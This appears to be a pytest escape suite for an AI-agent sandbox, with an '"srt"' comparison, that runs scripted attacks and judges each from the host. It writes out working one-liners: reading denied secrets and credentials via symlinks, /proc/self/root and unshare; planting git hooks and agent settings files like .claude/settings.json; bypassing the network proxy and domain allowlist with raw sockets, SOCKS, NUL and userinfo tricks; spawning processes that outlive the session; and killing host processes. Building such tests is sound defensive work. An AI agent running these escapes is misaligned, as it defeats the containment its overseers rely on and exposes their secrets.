# ruff: noqa: E501, E741
"""The escape suite: attacks on the sandbox, each judged from the host.

Every case runs a shell script inside the sandbox and then looks at the host
only: file contents, the upstream server's request log, host listeners'
counters, the host's process table. The exit status of the sandboxed command is
never the verdict. The same cases run against our ``sandbox exec`` (which must
block every one, on the bwrap backend and
with ``--backend gvisor``); the side-by-side table is written to
build/escape-results.md. srt's results on the same cases are recorded, never
asserted, by bench/bench_srt_escapes.py.
"""

from __future__ import annotations

import json
import os
import secrets
import signal
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from conftest import PY, SRT, HostListeners, Net, needs_bwrap, write_results

from agent_sandbox.runtime.run import run_sandboxed

RESULTS: dict[str, dict[str, str]] = {}
SUMMARY: list[str] = []
CATEGORY: dict[str, str] = {}


@dataclass
class Ctx:
    root: Path
    W: Path  # writable root and working directory
    S: Path  # denied for reading
    O: Path  # readable, not writable
    token: str
    marker: str
    net: Net
    ls: HostListeners
    state: dict[str, Any] = field(default_factory=dict)

    def vars(self) -> dict[str, str]:
        return {
            "W": str(self.W), "S": str(self.S), "O": str(self.O), "TOKEN": self.token,
            "M": self.marker, "PY": PY, "UP": self.net.up_ip, "HOSTIP": self.net.host_ip,
            "LOPORT": str(self.ls.tcp_lo.port), "UDPPORT": str(self.ls.udp_lo.port),
            "HOSTPORT": str(self.ls.tcp_host.port if self.ls.tcp_host else 0),
            "UNIX": self.ls.unix_path, "ABSTRACT": self.ls.abstract_name[1:],
            **{k: str(v) for k, v in self.state.items() if isinstance(v, str | int)},
        }


@dataclass
class Case:
    name: str
    category: str
    script: str
    judge: Callable[[Ctx], bool]  # True when the attack succeeded (host-side evidence)
    settings: Callable[[Ctx, dict], None] | None = None
    setup: Callable[[Ctx], None] | None = None
    env: dict[str, str] = field(default_factory=dict)  # the caller's ({TOKEN} filled in)


def leaked(ctx: Ctx) -> bool:
    """The secret reached the file the command wrote its findings to."""
    out = ctx.W / "out"
    try:
        return out.is_file() and ctx.token in out.read_text(errors="ignore")
    except OSError:
        return False


def content_changed(rel: str, original: str) -> Callable[[Ctx], bool]:
    def judge(ctx: Ctx) -> bool:
        p = ctx.root / rel
        return not p.exists() or p.read_text() != original
    return judge


def exists_with_token(rel: str) -> Callable[[Ctx], bool]:
    def judge(ctx: Ctx) -> bool:
        p = ctx.root / rel
        try:
            return p.is_file() and ctx.token in p.read_text(errors="ignore")
        except OSError:
            return False
    return judge


def upstream_saw(ctx: Ctx) -> bool:
    return ctx.net.saw(ctx.marker)


def listener_hit(name: str) -> Callable[[Ctx], bool]:
    def judge(ctx: Ctx) -> bool:
        before = ctx.state[f"hits_{name}"]
        time.sleep(0.1)
        return getattr(ctx.ls, name).hits > before
    return judge


def process_alive(ctx: Ctx) -> bool:
    time.sleep(0.3)
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            if ctx.marker.encode() in (d / "cmdline").read_bytes():
                return True
        except OSError:
            continue
    return False


def host_victim_dead(ctx: Ctx) -> bool:
    victim: subprocess.Popen = ctx.state["victim_proc"]
    time.sleep(0.1)
    dead = victim.poll() is not None
    victim.kill()
    victim.wait()
    return dead


def start_victim(ctx: Ctx) -> None:
    p = subprocess.Popen(["sleep", f"3{secrets.randbelow(900) + 100}"])
    ctx.state["victim_proc"] = p
    ctx.state["VICTIM"] = p.pid


def allow(*names: str) -> Callable[[Ctx, dict], None]:
    def mod(ctx: Ctx, s: dict) -> None:
        s["network"]["allowedDomains"] = list(names)
    return mod


def credential(kind: str, value: str, mode: str = "deny") -> Callable[[Ctx, dict], None]:
    """srt's ``credentials``: a file (``value`` below the writable root) or a variable."""
    def mod(ctx: Ctx, s: dict) -> None:
        entry = ({"path": str(ctx.W / value)} if kind == "files" else {"name": value})
        s.setdefault("credentials", {}).setdefault(kind, []).append({**entry, "mode": mode})
        if mode == "mask":  # srt refuses a mask without tlsTerminate unless told so
            s["credentials"]["allowPlaintextInject"] = True
    return mod


def deny_read_glob(ctx: Ctx, s: dict) -> None:
    s["filesystem"]["denyRead"].append("**/.env")


def deny_write_locked(ctx: Ctx, s: dict) -> None:
    s["filesystem"]["denyWrite"].append(str(ctx.W / "locked"))


def mk(rel: str, text: str) -> Callable[[Ctx], None]:
    def setup(ctx: Ctx) -> None:
        p = ctx.root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text.replace("{TOKEN}", ctx.token))
    return setup


def git_repo(ctx: Ctx) -> None:
    subprocess.run(["git", "init", "-q", str(ctx.W)], check=True)


def both(*fns: Callable[[Ctx], None]) -> Callable[[Ctx], None]:
    def setup(ctx: Ctx) -> None:
        for f in fns:
            f(ctx)
    return setup


def fill(template: str, **kw: object) -> str:
    for k, v in kw.items():
        template = template.replace("{" + k + "}", str(v))
    return template


CURL = "curl -s -m 5 -o /dev/null"
PROXY_GET = CURL + " http://{host}:8080/{M}"
NO_PROXY_RAW = '{PY} -c "import socket; s=socket.create_connection((\'{ip}\', {port}), 3)"'

CASES: list[Case] = [
    # -- denied reads --------------------------------------------------------
    Case("read-direct", "denied read", "cat {S}/secret.txt > {W}/out", leaked),
    Case("read-symlink", "denied read", "ln -s {S}/secret.txt {W}/l; cat {W}/l > {W}/out",
         leaked),
    Case("read-symlink-dir", "denied read", "ln -s {S} {W}/d; cat {W}/d/secret.txt > {W}/out",
         leaked),
    Case("read-hardlink", "denied read", "ln {S}/secret.txt {W}/h; cat {W}/h > {W}/out",
         leaked),
    Case("read-proc-self-root", "denied read",
         "cat /proc/self/root{S}/secret.txt > {W}/out", leaked),
    Case("read-proc-1-root", "denied read", "cat /proc/1/root{S}/secret.txt > {W}/out", leaked),
    Case("read-userns-umount", "denied read",
         "unshare -Urm sh -c 'umount -l {S}; cat {S}/secret.txt' > {W}/out", leaked),
    Case("read-umount", "denied read", "umount -l {S}; cat {S}/secret.txt > {W}/out", leaked),
    Case("read-python-open", "denied read",
         "{PY} -c \"print(open('{S}/secret.txt').read())\" > {W}/out", leaked),
    Case("read-fd-redirect", "denied read", "exec 3< {S}/secret.txt; cat <&3 > {W}/out",
         leaked),
    Case("read-glob-env", "denied read", "cat {W}/app/.env > {W}/out", leaked,
         settings=deny_read_glob, setup=mk("work/app/.env", "KEY={TOKEN}\n")),
    Case("read-rename-parent", "denied read",
         "mv {W}/a {W}/b; cat {W}/b/secret.txt > {W}/out; mv {W}/b/secret.txt {W}/s2; "
         "cat {W}/s2 >> {W}/out", leaked, setup=mk("work/a/secret.txt", "{TOKEN}\n"),
         settings=lambda c, s: s["filesystem"]["denyRead"].append(str(c.W / "a" / "secret.txt"))),
    Case("credential-file", "denied read", "cat {W}/.npmrc > {W}/out; cp {W}/.npmrc {W}/out2; "
         "cat {W}/out2 >> {W}/out", leaked, settings=credential("files", ".npmrc"),
         setup=mk("work/.npmrc", "//registry.npmjs.org/:_authToken={TOKEN}\n")),
    Case("credential-file-masked", "denied read", "cat {W}/.netrc > {W}/out", leaked,
         settings=credential("files", ".netrc", "mask"),
         setup=mk("work/.netrc", "machine up.example.com password {TOKEN}\n")),
    Case("credential-env", "denied read", "env > {W}/out; cat /proc/self/environ >> {W}/out",
         leaked, settings=credential("envVars", "AGENT_TOKEN"), env={"AGENT_TOKEN": "{TOKEN}"}),
    Case("credential-env-masked", "denied read", "printenv API_KEY > {W}/out", leaked,
         settings=credential("envVars", "API_KEY", "mask"), env={"API_KEY": "{TOKEN}"}),
    Case("read-find-grep", "denied read", "grep -rs {TOKEN} {S} /proc/self/root{S} /proc/1/root{S} | head > {W}/out",
         leaked),
    # -- protected writes --------------------------------------------------------
    Case("write-outside-root", "protected write", "echo {TOKEN} > {O}/target.txt",
         content_changed("outside/target.txt", "original\n")),
    Case("write-new-file-in-root-fs", "protected write", "echo {TOKEN} > /{M}",
         lambda c: Path(f"/{c.marker}").exists()),
    Case("write-bashrc-existing", "protected write", "echo {TOKEN} >> {W}/.bashrc",
         content_changed("work/.bashrc", "# rc\n"), setup=mk("work/.bashrc", "# rc\n")),
    Case("write-bashrc-new", "protected write", "echo {TOKEN} > {W}/.bashrc",
         exists_with_token("work/.bashrc")),
    Case("write-profile-new", "protected write", "echo {TOKEN} > {W}/.profile",
         exists_with_token("work/.profile")),
    Case("write-gitconfig", "protected write", "echo {TOKEN} > {W}/.gitconfig",
         exists_with_token("work/.gitconfig")),
    Case("git-hooks-new-repo", "protected write",
         "git init -q {W} ; mkdir -p {W}/.git/hooks; echo {TOKEN} > {W}/.git/hooks/pre-commit",
         exists_with_token("work/.git/hooks/pre-commit")),
    Case("git-hooks-new-subdir-repo", "protected write",
         "mkdir -p {W}/sub && cd {W}/sub && git init -q . ; echo {TOKEN} > .git/hooks/pre-commit",
         exists_with_token("work/sub/.git/hooks/pre-commit")),
    Case("git-hooks-existing-repo", "protected write",
         "echo {TOKEN} > {W}/.git/hooks/pre-commit",
         exists_with_token("work/.git/hooks/pre-commit"), setup=git_repo),
    Case("git-config-existing-repo", "protected write",
         "echo '[core] hooksPath = {TOKEN}' >> {W}/.git/config",
         lambda c: c.token in (c.W / ".git" / "config").read_text(), setup=git_repo),
    Case("git-rename-parent", "protected write",
         "mv {W}/.git {W}/g2; mkdir -p {W}/.git/hooks; echo {TOKEN} > {W}/.git/hooks/pre-commit",
         exists_with_token("work/.git/hooks/pre-commit"), setup=git_repo),
    Case("git-hooks-deep-existing-repo", "protected write",
         "echo {TOKEN} > {W}/a/b/c/d/e/f/.git/hooks/pre-commit",
         exists_with_token("work/a/b/c/d/e/f/.git/hooks/pre-commit"),
         setup=lambda c: subprocess.run(["git", "init", "-q", str(c.W / "a/b/c/d/e/f")],
                                        check=True)),
    Case("git-hooks-old-dir-moved-into-place", "protected write",
         "mkdir -p {W}/x && mv {W}/old {W}/x/.git && mkdir -p {W}/x/.git/hooks && "
         "echo {TOKEN} > {W}/x/.git/hooks/pre-commit",
         exists_with_token("work/x/.git/hooks/pre-commit"),
         setup=mk("work/old/README", "old\n")),
    Case("gitmodules", "protected write", "echo {TOKEN} > {W}/.gitmodules",
         exists_with_token("work/.gitmodules")),
    Case("mcp-json", "protected write", "echo {TOKEN} > {W}/.mcp.json",
         exists_with_token("work/.mcp.json")),
    Case("claude-settings", "protected write",
         "mkdir -p {W}/.claude; echo {TOKEN} > {W}/.claude/settings.json",
         exists_with_token("work/.claude/settings.json")),
    Case("vscode-tasks", "protected write",
         "mkdir -p {W}/.vscode; echo {TOKEN} > {W}/.vscode/tasks.json",
         exists_with_token("work/.vscode/tasks.json")),
    Case("sandbox-policy", "protected write",
         "mkdir -p {W}/.sandbox; echo {TOKEN} > {W}/.sandbox/policy.yml",
         exists_with_token("work/.sandbox/policy.yml")),
    Case("protected-rename-parent", "protected write",
         "mv {W}/pkg {W}/pkg2; mkdir -p {W}/pkg/.claude; echo {TOKEN} > {W}/pkg/.claude/x.json",
         exists_with_token("work/pkg/.claude/x.json"), setup=mk("work/pkg/.claude/x.json", "{}")),
    Case("deny-write-setting", "protected write", "echo {TOKEN} >> {W}/locked/file",
         content_changed("work/locked/file", "keep\n"), settings=deny_write_locked,
         setup=mk("work/locked/file", "keep\n")),
    Case("deny-write-rename-parent", "protected write",
         "mv {W}/locked {W}/l2 && mkdir {W}/locked && echo {TOKEN} > {W}/locked/file",
         content_changed("work/locked/file", "keep\n"), settings=deny_write_locked,
         setup=mk("work/locked/file", "keep\n")),
    Case("symlink-out-of-root", "protected write",
         "ln -s {O}/target.txt {W}/ln; echo {TOKEN} > {W}/ln",
         content_changed("outside/target.txt", "original\n")),
    Case("symlink-dir-out-of-root", "protected write",
         "ln -s {O} {W}/od; echo {TOKEN} > {W}/od/new.txt",
         lambda c: (c.O / "new.txt").exists()),
    Case("hardlink-out-of-root", "protected write",
         "ln {O}/target.txt {W}/hl; echo {TOKEN} >> {W}/hl",
         content_changed("outside/target.txt", "original\n")),
    Case("rename-out-of-root", "protected write", "mv {O}/target.txt {W}/stolen.txt",
         lambda c: not (c.O / "target.txt").exists()),
    Case("proc-self-root-write", "protected write",
         "echo {TOKEN} > /proc/self/root{O}/target.txt",
         content_changed("outside/target.txt", "original\n")),
    Case("chmod-outside", "protected write", "chmod 666 {O}/target.txt",
         lambda c: (c.O / "target.txt").stat().st_mode & 0o777 != 0o644),
    Case("remount-rw", "protected write",
         "mount -o remount,rw / ; mount -o remount,rw,bind {O}; echo {TOKEN} > {O}/target.txt",
         content_changed("outside/target.txt", "original\n")),
    Case("dev-shm-shared", "protected write", "echo {TOKEN} > /dev/shm/{M}",
         lambda c: Path(f"/dev/shm/{c.marker}").exists()),
    # -- proxy bypass -------------------------------------------------------------
    Case("noproxy-curl", "proxy bypass",
         "curl -s -m 3 --noproxy '*' http://{UP}:8080/{M} -o /dev/null", upstream_saw,
         settings=allow("up.example.com")),
    Case("raw-tcp-upstream", "proxy bypass",
         fill(NO_PROXY_RAW, ip="{UP}", port=8080) + "; s.sendall(b'GET /{M} HTTP/1.0\\r\\n\\r\\n')\"",
         upstream_saw),
    Case("raw-tcp-host-loopback", "proxy bypass", fill(NO_PROXY_RAW, ip="127.0.0.1",
         port="{LOPORT}"), listener_hit("tcp_lo")),
    Case("raw-tcp-host-address", "proxy bypass", fill(NO_PROXY_RAW, ip="{HOSTIP}",
         port="{HOSTPORT}"), listener_hit("tcp_host")),
    Case("udp-host-loopback", "proxy bypass",
         "{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
         "b'{M}', ('127.0.0.1', {UDPPORT}))\"", listener_hit("udp_lo")),
    Case("udp-dns-upstream", "proxy bypass",
         "{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
         "b'{M}', ('{UP}', 5353))\"", upstream_saw),
    Case("unix-socket-host", "proxy bypass",
         "{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{UNIX}')\"",
         listener_hit("unix")),
    Case("abstract-unix-socket-host", "proxy bypass",
         "{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{ABSTRACT}')\"",
         listener_hit("abstract")),
    # -- domain tricks (every name below resolves to the upstream server for our proxy) --
    Case("domain-suffix-trick", "domain trick", fill(PROXY_GET, host="up.example.com.attacker.test"),
         upstream_saw, settings=allow("up.example.com")),
    Case("domain-prefix-trick", "domain trick", fill(PROXY_GET, host="attackerup.example.com"),
         upstream_saw, settings=allow("up.example.com")),
    Case("domain-userinfo-trick", "domain trick",
         "printf 'GET http://up.example.com@attacker.test:8080/{M} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'"
         " | curl -s -m 3 telnet://127.0.0.1:3128 -o /dev/null; "
         + CURL + " -x '' http://up.example.com@attacker.test:8080/{M}",
         upstream_saw, settings=allow("up.example.com")),
    Case("domain-nul-trick", "domain trick",
         "{PY} -c \"import os,socket; p=int(os.environ.get('http_proxy','x:3128').rsplit(':',1)[1]);"
         " s=socket.create_connection(('127.0.0.1',p)); "
         "s.sendall(b'CONNECT up.example.com\\x00.attacker.test:8080 HTTP/1.1\\r\\n\\r\\n'); s.recv(100);"
         " s.sendall(b'GET /{M} HTTP/1.0\\r\\n\\r\\n'); s.recv(100)\"",
         upstream_saw, settings=allow("up.example.com")),
    Case("domain-denied-wins", "domain trick", fill(PROXY_GET, host="bad.example.com"),
         upstream_saw, settings=lambda c, s: s["network"].update(
             allowedDomains=["*.example.com"], deniedDomains=["bad.example.com"])),
    Case("domain-denied-case-dot", "domain trick", fill(PROXY_GET, host="BAD.Example.COM."),
         upstream_saw, settings=lambda c, s: s["network"].update(
             allowedDomains=["*.example.com"], deniedDomains=["bad.example.com"])),
    Case("domain-ip-decimal", "domain trick",
         "ip=$({PY} -c \"import ipaddress; print(int(ipaddress.ip_address('{UP}')))\"); "
         + CURL + " http://$ip:8080/{M}", upstream_saw, settings=allow("up.example.com")),
    Case("domain-ip-hex-socks", "domain trick",
         "ip=$({PY} -c \"import ipaddress; print(hex(int(ipaddress.ip_address('{UP}'))))\"); "
         + CURL + " -x socks5h://127.0.0.1:1080 http://$ip:8080/{M}; "
         + CURL + " http://$ip:8080/{M}",
         upstream_saw, settings=allow("up.example.com")),
    Case("port-scoped-allow", "domain trick",
         CURL + " -p http://up.example.com:2222/{M}; " + CURL + " http://up.example.com:2222/{M}; "
         + CURL + " -x socks5h://127.0.0.1:1080 http://up.example.com:2222/{M}",
         upstream_saw, settings=allow("up.example.com:8080")),
    Case("denied-resolved-range", "domain trick", fill(PROXY_GET, host="up.example.com") + "; "
         + CURL + " -p http://also.up.example.com:8080/{M}", upstream_saw,
         settings=lambda c, s: s["network"].update(
             allowedDomains=["up.example.com", "also.up.example.com"],
             deniedResolvedAddresses=[c.net.up_ip + "/32"])),
    Case("domain-idna-homograph", "domain trick", fill(PROXY_GET, host="xn--p-0tbb.example.com"),
         upstream_saw, settings=allow("up.example.com")),
    Case("dns-rebinding-to-loopback", "domain trick",
         CURL + " http://rebind.example.com:{LOPORT}/{M}; " + CURL
         + " http://localhost:{LOPORT}/{M}", listener_hit("tcp_lo"),
         settings=allow("rebind.example.com", "localhost")),
    Case("allowed-loopback-literal", "domain trick", CURL + " http://127.0.0.1:{LOPORT}/{M}; "
         + CURL + " -x socks5h://127.0.0.1:1080 http://127.0.0.1:{LOPORT}/",
         listener_hit("tcp_lo"), settings=allow("127.0.0.1")),
    Case("allowed-host-own-address", "domain trick",
         CURL + " http://self.example.com:{HOSTPORT}/{M}; " + CURL + " http://{HOSTIP}:{HOSTPORT}/",
         listener_hit("tcp_host"), settings=lambda c, s: s["network"].update(
             allowedDomains=["self.example.com", c.net.host_ip])),
    Case("allowed-loopback-ipv6-mapped", "domain trick",
         CURL + " -g 'http://[::ffff:127.0.0.1]:{LOPORT}/{M}'; " + CURL
         + " -g -x socks5h://127.0.0.1:1080 'http://[::ffff:7f00:1]:{LOPORT}/'",
         listener_hit("tcp_lo"), settings=allow("127.0.0.1")),
    Case("socks-udp-associate", "proxy bypass",
         "{PY} -c \"import socket,struct; s=socket.create_connection(('127.0.0.1',1080),3); "
         "s.sendall(b'\\x05\\x01\\x00'); s.recv(2); "
         "s.sendall(b'\\x05\\x03\\x00\\x01'+socket.inet_aton('127.0.0.1')+struct.pack('>H',{UDPPORT})); "
         "r=s.recv(10); u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); "
         "u.sendto(b'\\x00\\x00\\x00\\x01'+socket.inet_aton('127.0.0.1')+struct.pack('>H',{UDPPORT})+b'{M}', "
         "(socket.inet_ntoa(r[4:8]), struct.unpack('>H', r[8:10])[0]))\"",
         listener_hit("udp_lo"), settings=allow("127.0.0.1")),
    # -- processes ------------------------------------------------------------------
    Case("outlive-background", "processes",
         "(sh -c 'sleep 30; true' {M} &) ; nohup sh -c 'sleep 31; true' {M} >/dev/null 2>&1 &",
         process_alive),
    Case("outlive-setsid-daemon", "processes",
         "setsid sh -c 'sleep 32 & sleep 33; true' {M} >/dev/null 2>&1 < /dev/null & sleep 0.3",
         process_alive),
    Case("outlive-double-fork-python", "processes",
         "{PY} -c \"import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
         "os.execvp('sh', ['sh', '-c', 'sleep 34; true', '{M}'])\"; sleep 0.3",
         process_alive),
    Case("signal-host-process", "processes",
         "kill -9 {VICTIM}; pkill -9 -f 'sleep 3' ; kill -9 -1", host_victim_dead,
         setup=start_victim),
]

# Markers are substituted into process names: keep them shell-safe.
assert len(CASES) >= 40, len(CASES)
assert len({c.name for c in CASES}) == len(CASES)


def base_settings(ctx: Ctx) -> dict:
    return {
        "network": {"allowedDomains": ["up.example.com"], "deniedDomains": []},
        "filesystem": {"denyRead": [str(ctx.S)], "allowWrite": [str(ctx.W)], "denyWrite": []},
    }


def make_ctx(tmp: Path, net: Net, ls: HostListeners, case: Case) -> tuple[Ctx, dict]:
    ctx = Ctx(root=tmp, W=tmp / "work", S=tmp / "secret", O=tmp / "outside",
              token="TOK" + secrets.token_hex(8), marker=f"m{secrets.token_hex(6)}",
              net=net, ls=ls)
    for d in (ctx.W, ctx.S, ctx.O):
        d.mkdir()
    (ctx.S / "secret.txt").write_text(f"secret {ctx.token}\n")
    (ctx.O / "target.txt").write_text("original\n")
    (ctx.O / "target.txt").chmod(0o644)
    if case.setup:
        case.setup(ctx)
    for name in ("tcp_lo", "udp_lo", "unix", "abstract", "tcp_host"):
        ctx.state[f"hits_{name}"] = getattr(ls, name).hits
    s = base_settings(ctx)
    if case.settings:
        case.settings(ctx, s)
    return ctx, s


def run_case(engine: str, case: Case, tmp: Path, net: Net, ls: HostListeners,
             monkeypatch: pytest.MonkeyPatch) -> bool:
    ctx, s = make_ctx(tmp, net, ls, case)
    script = case.script
    values = ctx.vars()
    if engine == "gvisor":  # the container's root is the image: its own interpreter
        values["PY"] = "python3"
    for k, v in values.items():
        script = script.replace("{" + k + "}", v)
    settings_file = tmp / "settings.json"
    settings_file.write_text(json.dumps(s))
    for k, v in case.env.items():
        monkeypatch.setenv(k, v.replace("{TOKEN}", ctx.token))
    if engine == "ours":
        monkeypatch.setenv("AGENT_SANDBOX_HOSTS", str(net.hosts_file))
        monkeypatch.setenv("AGENT_SANDBOX_AUDIT_DIR", str(tmp / "audit"))
        run_sandboxed(["sh", "-c", script], settings_file, ctx.W, timeout=30)
    elif engine == "gvisor":
        monkeypatch.setenv("AGENT_SANDBOX_HOSTS", str(net.hosts_file))
        monkeypatch.setenv("AGENT_SANDBOX_AUDIT_DIR", str(tmp / "audit"))
        run_sandboxed(["sh", "-c", script], settings_file, ctx.W, backend="gvisor", timeout=60)
    else:
        run_srt_killing_stragglers([str(SRT), "-s", str(settings_file), "-c", script], ctx.W)
    try:
        return case.judge(ctx)
    finally:
        victim = ctx.state.get("victim_proc")
        if victim is not None and victim.poll() is None:
            victim.kill()
        _kill_markers(ctx.marker)


def run_srt_killing_stragglers(argv: list[str], cwd: Path, timeout: float = 30) -> None:
    """Run srt; on a timeout kill srt and everything it started (srt leaves them)."""
    import psutil

    p = subprocess.Popen(argv, cwd=cwd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        p.wait(timeout)
    except subprocess.TimeoutExpired:
        kids = psutil.Process(p.pid).children(recursive=True)
        for k in [psutil.Process(p.pid), *kids]:
            try:
                k.kill()
            except psutil.Error:
                pass
        p.wait()
        raise


def _kill_markers(marker: str) -> None:
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if marker.encode() in (d / "cmdline").read_bytes():
                    os.kill(int(d.name), signal.SIGKILL)
            except OSError:
                continue


def _record(engine: str, case: Case, escaped: bool | None, note: str = "") -> None:
    RESULTS.setdefault(case.name, {})[engine] = (
        note if escaped is None else ("ESCAPED" if escaped else "blocked"))
    CATEGORY[case.name] = case.category


@pytest.fixture(scope="module", autouse=True)
def results_table() -> Any:
    yield
    if not RESULTS:
        return
    lines = ["# Escape suite: sandbox exec, bwrap and gVisor backends", "",
             "Each case is judged from the host (file contents, listeners, process table).",
             "sandbox exec runs it with the bwrap backend, then once more with the gVisor",
             "backend.", "",
             "| case | category | sandbox exec | gVisor backend |",
             "| --- | --- | --- | --- |"]
    for c in CASES:
        r = RESULTS.get(c.name)
        if r:
            lines.append(f"| {c.name} | {c.category} | {r.get('ours', 'not run')} | "
                         f"{r.get('gvisor', 'not run')} |")
    totals = []
    for engine, label in (("ours", "sandbox exec"), ("gvisor", "gVisor backend")):
        got = [r[engine] for r in RESULTS.values() if engine in r]
        totals.append(f"{label}: {got.count('blocked')}/{len(got)} blocked")
    lines += ["", "; ".join(totals), ""]
    write_results("escape-results", "\n".join(lines))
    SUMMARY[:] = lines  # printed at the end of the session by conftest


pytestmark = [needs_bwrap]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_ours_blocks(case: Case, tmp_path: Path, net: Net, host_listeners: HostListeners,
                     monkeypatch: pytest.MonkeyPatch) -> None:
    escaped = run_case("ours", case, tmp_path, net, host_listeners, monkeypatch)
    _record("ours", case, escaped)
    assert not escaped, f"{case.name}: the attack succeeded against sandbox exec"


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_gvisor_blocks(case: Case, tmp_path: Path, net: Net, host_listeners: HostListeners,
                       monkeypatch: pytest.MonkeyPatch, gvisor_env: None) -> None:
    """The same attacks against ``--backend gvisor`` (one runsc container each)."""
    escaped = run_case("gvisor", case, tmp_path, net, host_listeners, monkeypatch)
    _record("gvisor", case, escaped)
    assert not escaped, f"{case.name}: the attack succeeded against the gVisor backend"


# -- the judges can tell an escape from a block ------------------------------------


def _host_attack(kind: str, ctx: Ctx) -> None:
    """Do, from the host and unsandboxed, what a successful attack would leave behind."""
    import socket as s

    if kind == "leak":
        (ctx.W / "out").write_text(ctx.token)
    elif kind == "write-outside":
        (ctx.O / "target.txt").write_text(ctx.token)
    elif kind == "hook":
        hook = ctx.W / ".git" / "hooks" / "pre-commit"
        hook.parent.mkdir(parents=True)
        hook.write_text(ctx.token)
    elif kind == "upstream":
        subprocess.run(["curl", "-s", "-m", "5", "--noproxy", "*", "-o", "/dev/null",
                        f"http://{ctx.net.up_ip}:8080/{ctx.marker}"], check=True)
    elif kind == "tcp_lo":
        s.create_connection(("127.0.0.1", ctx.ls.tcp_lo.port)).close()
    elif kind == "udp_lo":
        s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ctx.ls.udp_lo.port))
    elif kind == "unix":
        c = s.socket(s.AF_UNIX)
        c.connect(ctx.ls.unix_path)
        c.close()
    elif kind == "abstract":
        c = s.socket(s.AF_UNIX)
        c.connect(ctx.ls.abstract_name)
        c.close()
    elif kind == "process":
        subprocess.Popen(["sh", "-c", "sleep 30; true", ctx.marker], start_new_session=True)
    elif kind == "victim":
        ctx.state["victim_proc"].kill()
        ctx.state["victim_proc"].wait()


JUDGE_CONTROLS = [
    ("leak", leaked, None),
    ("write-outside", content_changed("outside/target.txt", "original\n"), None),
    ("hook", exists_with_token("work/.git/hooks/pre-commit"), None),
    ("upstream", upstream_saw, None),
    ("tcp_lo", listener_hit("tcp_lo"), None),
    ("udp_lo", listener_hit("udp_lo"), None),
    ("unix", listener_hit("unix"), None),
    ("abstract", listener_hit("abstract"), None),
    ("process", process_alive, None),
    ("victim", host_victim_dead, start_victim),
]


@pytest.mark.parametrize("kind,judge,setup", JUDGE_CONTROLS, ids=[k for k, _, _ in JUDGE_CONTROLS])
def test_judge_detects_a_real_escape(kind: str, judge: Callable[[Ctx], bool],
                                     setup: Callable[[Ctx], None] | None, tmp_path: Path,
                                     net: Net, host_listeners: HostListeners) -> None:
    case = Case(f"control-{kind}", "control", "true", judge, setup=setup)
    ctx, _ = make_ctx(tmp_path, net, host_listeners, case)
    if kind != "victim":  # this judge reaps the victim, so it can only be asked once
        assert not judge(ctx), f"the {kind} judge sees an escape before any attack"
    _host_attack(kind, ctx)
    try:
        assert judge(ctx), f"the {kind} judge missed an escape done from the host"
    finally:
        _kill_markers(ctx.marker)
